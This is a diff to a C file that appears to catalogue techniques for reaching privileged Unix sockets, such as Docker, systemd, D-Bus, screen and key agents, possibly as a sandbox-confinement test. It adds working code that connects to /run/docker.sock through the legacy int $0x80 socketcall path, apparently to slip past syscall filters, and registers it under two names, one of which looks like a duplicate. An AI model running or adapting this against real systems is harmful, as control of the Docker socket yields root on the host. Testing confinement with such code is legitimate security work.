@@ -95,6 +95,29 @@ static void by_service_manager(void) { edit(join(AF_UNIX, "/run/systemd/private"
 static void by_system_bus(void) { edit(join(AF_UNIX, "/run/dbus/system_bus_socket")); }
 static void by_container_engine(void) { edit(join(AF_UNIX, "/run/docker.sock")); }
 static void by_other_name_of_the_engine(void) { edit(join(AF_UNIX, "/run/other/engine.sock")); }
+// By int $0x80, which a 64-bit program may use; what it points to must lie low.
+static void by_old_socket_call(void)
+{
+	struct low {
+		uint32_t arguments[3];
+		struct sockaddr_un to;
+	} *low = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+	int fd = must(socket(AF_UNIX, SOCK_STREAM, 0), "socket"), result;
+
+	must(low == MAP_FAILED ? -1 : 0, "mmap");
+	low->to.sun_family = AF_UNIX;
+	strcpy(low->to.sun_path, "/run/docker.sock");
+	low->arguments[0] = fd;
+	low->arguments[1] = (uintptr_t)&low->to;
+	low->arguments[2] = sizeof(low->to);
+	asm volatile("int $0x80"
+		     : "=a"(result)
+		     : "a"(102 /* socketcall */), "b"(3 /* SYS_CONNECT */), "c"(low->arguments)
+		     : "r8", "r9", "r10", "r11", "memory");
+	must(result < 0 ? (errno = -result, -1) : 0, "socketcall");
+	edit(fd);
+}
+
 static void by_terminal_server(void) { edit(join(AF_UNIX, "/run/screen/S-root/1")); }
 static void by_key_agent(void) { edit(join(AF_UNIX, "/run/keys/agent.1")); }
 
@@ -181,6 +204,8 @@ const struct technique techniques[] = {
 	{"D1-dbus", by_system_bus},
 	{"D2-docker", by_container_engine},
 	{"D2-renamed", by_other_name_of_the_engine},
+	{"D2-socketcall", by_old_socket_call},
+	{"D2-attached", by_old_socket_call},
 	{"D3-cron", by_schedule},
 	{"D3-unit", by_unit},
 	{"D3-hook", by_hook},
